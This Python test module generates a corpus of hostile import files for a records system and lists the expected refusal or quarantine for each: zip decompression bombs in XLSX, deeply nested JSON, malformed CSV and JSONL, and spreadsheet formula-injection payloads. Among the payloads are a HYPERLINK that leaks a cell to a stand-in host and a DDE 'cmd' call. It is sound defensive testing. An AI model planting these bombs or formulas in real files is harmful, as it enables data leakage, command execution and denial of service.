"""The attack corpus: files that try to exhaust memory, blow up the store or corrupt names on import.

Each builder writes one file into a folder and returns its path; sizes are parameters so that the
tests build small bombs (fast) and bench/hostile.py the full-size ones of the red team's report.
Every name in these files comes from the project's synthetic population (athar.synth), never a
real person.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook

from athar.synth.pairs import name_corpus

MiB = 1 << 20
_ARABIC = re.compile("[\u0600-\u06ff]")


def arabic_names(n: int, seed: int = 7) -> list[str]:
    """`n` synthetic full names in Arabic script, each of which Windows-1256 can encode."""
    names: list[str] = []
    batch = 0
    while len(names) < n:
        for name in name_corpus(4 * n, seed=seed + batch):
            if _ARABIC.search(name) and name.encode("cp1256", "replace").decode("cp1256") == name:
                names.append(name)
        batch += 1
    return names[:n]


def _workbook_bytes(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _rezip(
    original: bytes,
    target: Path,
    edits: dict[str, Callable[[str], str]] | None = None,
    streamed: dict[str, Callable[[io.BufferedWriter], None]] | None = None,
    extra: int = 0,
) -> Path:
    """Copy a workbook's members into `target`, deflated as Excel writes them: members in `edits` with
    their XML edited, then the members of `streamed` written chunk by chunk, then `extra` tiny ones."""
    edits, streamed = edits or {}, streamed or {}
    with (
        zipfile.ZipFile(io.BytesIO(original)) as source,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename in edits:
                content = edits[info.filename](content.decode()).encode()
            out.writestr(info.filename, content)
        for name, write in streamed.items():
            with out.open(name, "w", force_zip64=True) as member:
                write(member)
        for i in range(extra):
            out.writestr(f"customXml/item{i}.xml", f"<item n='{i}'/>")
    return target


_SHARED_STRINGS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
_SHARED_STRINGS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def xlsx_shared_string_bomb(folder: Path, string_mib: int = 300) -> Path:
    """A workbook of three people whose second name is one shared string of `string_mib` MiB: the red
    team's 300 KB file holding a 300 MiB cell. (openpyxl writes inline strings, so the shared strings
    part, its content type and relationship are added here, as Excel would write them.)"""
    names = arabic_names(3)
    original = _workbook_bytes([["record_id", "full_name"], ["1", names[0]], ["2", "BOMB"], ["3", names[2]]])
    edits = {
        "xl/worksheets/sheet1.xml": lambda xml: xml.replace(
            '<c r="B3" t="inlineStr"><is><t>BOMB</t></is></c>', '<c r="B3" t="s"><v>0</v></c>'
        ),
        "[Content_Types].xml": lambda xml: xml.replace(
            "</Types>",
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_SHARED_STRINGS_TYPE}"/></Types>',
        ),
        "xl/_rels/workbook.xml.rels": lambda xml: xml.replace(
            "</Relationships>",
            f'<Relationship Id="rIdStrings" Type="{_SHARED_STRINGS_REL}" Target="sharedStrings.xml"/>'
            "</Relationships>",
        ),
    }

    def write(member: io.BufferedWriter) -> None:
        member.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" ')
        member.write(b'uniqueCount="1"><si><t>')
        chunk = ("ب" * (MiB // 2)).encode()  # 1 MiB of UTF-8
        for _ in range(string_mib):
            member.write(chunk)
        member.write(b"</t></si></sst>")

    return _rezip(original, folder / "shared_string_bomb.xlsx", edits, {"xl/sharedStrings.xml": write})


def xlsx_many_members(folder: Path, members: int = 5_000) -> Path:
    """A small valid workbook with thousands of extra zip members."""
    original = _workbook_bytes([["record_id", "full_name"], ["1", arabic_names(1)[0]]])
    return _rezip(original, folder / "many_members.xlsx", extra=members)


def xlsx_spread_bomb(folder: Path, members: int = 400) -> Path:
    """Hundreds of members just under 1 MiB of blanks each: no single member looks large, the whole
    inflates about a thousand times its size."""
    original = _workbook_bytes([["record_id", "full_name"], ["1", arabic_names(1)[0]]])
    target = _rezip(original, folder / "spread_bomb.xlsx")
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as out:
        blank = b" " * (MiB - 1)
        for i in range(members):
            out.writestr(f"xl/media/blank{i}.xml", blank)
    return target


def xlsx_formulas(folder: Path) -> Path:
    """Formula cells, among them the usual injection payloads: read as data, never evaluated."""
    names = arabic_names(2)
    rows = [
        ["record_id", "full_name", "notes"],
        ["1", names[0], "=1+1"],
        ["2", names[1], '=HYPERLINK("http://example.invalid/?leak="&B2,"click")'],
        ["3", "=CONCATENATE(B2,B3)", "=cmd|' /C calc'!A0"],
    ]
    target = folder / "formulas.xlsx"
    target.write_bytes(_workbook_bytes(rows))
    return target


def json_deeply_nested(folder: Path, depth: int = 100_000) -> Path:
    """A JSON "list" whose first row holds a value nested `depth` levels deep."""
    target = folder / "nested.json"
    target.write_text('[{"record_id": "1", "full_name": ' + "[" * depth + "]" * depth + "}]", "utf-8")
    return target


def json_row_with_nesting(folder: Path) -> Path:
    """Flat rows but one whose value nests five levels deep."""
    names = arabic_names(3)
    rows: list[dict] = [{"record_id": str(i + 1), "full_name": name} for i, name in enumerate(names)]
    rows[1]["aliases"] = [[[[["x"]]]]]
    rows[2]["aliases"] = ["a", "b"]  # a list of names: one level, kept as JSON text
    target = folder / "nesting_row.json"
    target.write_text(json.dumps(rows, ensure_ascii=False), "utf-8")
    return target


def jsonl_with_bad_lines(folder: Path) -> Path:
    """JSON Lines whose lines 2 to 5 are each broken in another way; lines 1 and 6 are good."""
    names = arabic_names(2)
    lines = [
        json.dumps({"record_id": "1", "full_name": names[0]}, ensure_ascii=False),
        '{"record_id": "2", "full_name": broken',
        '{"record_id": "3", "full_name": ' + "[" * 50_000 + "]" * 50_000 + "}",
        '{"record_id": "4", "count": ' + "9" * 5_000 + "}",
        '{"record_id": "5", "full_name": "\\ud800"}',
        json.dumps({"record_id": "6", "full_name": names[1]}, ensure_ascii=False),
    ]
    target = folder / "bad_lines.jsonl"
    target.write_text("\n".join(lines) + "\n", "utf-8")
    return target


def utf8_arabic_with_broken_byte(folder: Path, rows: int = 200, broken_row: int = 57) -> Path:
    """UTF-8 Arabic names with one invalid byte (a truncated letter) in data row `broken_row`."""
    names = arabic_names(rows)
    lines = [b"record_id,full_name"]
    for i, name in enumerate(names, start=1):
        encoded = name.encode("utf-8")
        if i == broken_row:
            encoded = encoded[:2] + b"\xd9" + encoded[2:]  # a lead byte with no continuation: not UTF-8
        lines.append(f"R{i},".encode() + encoded)
    target = folder / "utf8_broken_byte.csv"
    target.write_bytes(b"\n".join(lines) + b"\n")
    return target


def windows_1256_arabic(folder: Path, rows: int = 200) -> Path:
    """A genuine Windows-1256 list: it must still be read as Windows-1256."""
    names = arabic_names(rows)
    text = "record_id,full_name\n" + "".join(f"R{i},{name}\n" for i, name in enumerate(names, start=1))
    target = folder / "windows_1256.csv"
    target.write_bytes(text.encode("cp1256"))
    return target


def csv_with_huge_cell(folder: Path, cell_mib: int = 8) -> Path:
    """Three rows; the second has an unrecognised column holding one `cell_mib` MiB value."""
    names = arabic_names(3)
    huge = "x" * (cell_mib * MiB)
    text = f'record_id,full_name,remarks\n1,{names[0]},\n2,{names[1]},"{huge}"\n3,{names[2]},\n'
    target = folder / "huge_cell.csv"
    target.write_text(text, "utf-8")
    return target


def csv_with_long_cell(folder: Path, chars: int = 50_000) -> Path:
    """Like csv_with_huge_cell but under the CSV field limit: the validator refuses it, quarantine
    keeps a prefix."""
    names = arabic_names(3)
    text = f"record_id,full_name,remarks\n1,{names[0]},\n2,{names[1]},{'y' * chars}\n3,{names[2]},\n"
    target = folder / "long_cell.csv"
    target.write_text(text, "utf-8")
    return target


def csv_with_many_columns(folder: Path, columns: int = 20_000) -> Path:
    header = ",".join(["record_id", "full_name", *(f"c{i}" for i in range(columns))])
    target = folder / "many_columns.csv"
    target.write_text(header + "\n1," + arabic_names(1)[0] + "," * columns + "\n", "utf-8")
    return target


def pfif_with_long_name(folder: Path, chars: int = 200_000) -> Path:
    names = arabic_names(2)
    persons = "".join(
        f"<pfif:person><pfif:person_record_id>example.org/p{i}</pfif:person_record_id>"
        f"<pfif:full_name>{name}</pfif:full_name></pfif:person>"
        for i, name in enumerate([names[0], "ت" * chars, names[1]], start=1)
    )
    target = folder / "long_name.xml"
    target.write_text(
        f'<?xml version="1.0" encoding="UTF-8"?><pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">{persons}</pfif:pfif>',
        "utf-8",
    )
    return target


@dataclass(frozen=True)
class Attack:
    """One hostile file and what a sound import does with it: refuse it whole (`refused` names a
    phrase of the one-line cause) or read it, storing `stored` rows and quarantining `quarantined`."""

    build: Callable[[Path], Path]
    refused: str | None = None
    stored: int | None = None
    quarantined: int | None = None


def full_size_corpus() -> dict[str, Attack]:
    """The corpus at the red team's sizes, for bench/hostile.py."""
    return {
        "xlsx_shared_string_bomb_300MiB": Attack(xlsx_shared_string_bomb, refused="decompression bomb"),
        "xlsx_many_members": Attack(xlsx_many_members, refused="members"),
        "xlsx_spread_bomb": Attack(xlsx_spread_bomb, refused="decompression bomb"),
        "xlsx_formulas": Attack(xlsx_formulas, stored=3, quarantined=0),
        "json_nested_100000": Attack(json_deeply_nested, refused="nested too deeply"),
        "json_row_with_nesting": Attack(json_row_with_nesting, stored=2, quarantined=1),
        "jsonl_bad_lines": Attack(jsonl_with_bad_lines, stored=3, quarantined=3),
        "csv_utf8_broken_byte": Attack(utf8_arabic_with_broken_byte, stored=199, quarantined=1),
        "csv_windows_1256": Attack(windows_1256_arabic, stored=200, quarantined=0),
        "csv_huge_cell_8MiB": Attack(csv_with_huge_cell, stored=2, quarantined=1),
        "csv_long_cell": Attack(csv_with_long_cell, stored=2, quarantined=1),
        "csv_many_columns": Attack(csv_with_many_columns, refused="columns"),
        "pfif_long_name": Attack(pfif_with_long_name, stored=2, quarantined=1),
    }
